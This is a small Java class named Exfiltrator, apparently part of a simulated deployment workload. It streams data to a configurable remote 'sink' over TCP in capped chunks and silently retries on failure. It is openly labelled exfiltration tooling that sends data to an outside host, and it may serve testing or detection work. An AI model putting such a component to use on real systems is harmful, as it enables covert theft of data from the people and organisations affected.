package io.augur.deploy.workload.shop;

import java.io.IOException;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;

/** Streams data out over one TCP connection, in chunks, at most {@link #MAX_BYTES_PER_ROUND}. */
public final class Exfiltrator {
    static final int MAX_BYTES_PER_ROUND = 256 * 1024;
    static final int CHUNK = 8 * 1024;

    private final InetSocketAddress sink;

    public Exfiltrator(InetSocketAddress sink) {
        this.sink = sink;
    }

    public void stream(byte[] data) {
        try (Socket socket = open()) {
            OutputStream out = socket.getOutputStream();
            int limit = Math.min(data.length, MAX_BYTES_PER_ROUND);
            for (int off = 0; off < limit; off += CHUNK) {
                sendChunk(out, data, off, Math.min(CHUNK, limit - off));
            }
            out.flush();
        } catch (IOException e) {
            // The sink is away: the next round tries again.
        }
    }

    private Socket open() throws IOException {
        Socket s = new Socket();
        s.connect(new InetSocketAddress(sink.getHostString(), sink.getPort()), 2000);
        return s;
    }

    private void sendChunk(OutputStream out, byte[] data, int off, int len) throws IOException {
        out.write(data, off, len);
    }
}
